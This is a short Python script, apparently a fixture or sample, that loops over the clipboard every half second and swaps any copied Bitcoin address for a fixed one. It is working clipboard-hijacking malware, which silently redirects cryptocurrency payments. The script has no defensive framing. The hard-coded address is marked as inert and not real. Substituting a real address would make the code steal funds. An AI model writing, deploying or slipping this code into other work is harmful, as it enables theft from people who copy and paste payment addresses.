import re, time, pyperclip
ADDR = '1InertFixtureAddressNotReal000000'
pat = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$')
while True:
    if pat.match(pyperclip.paste()):
        pyperclip.copy(ADDR)
    time.sleep(0.5)
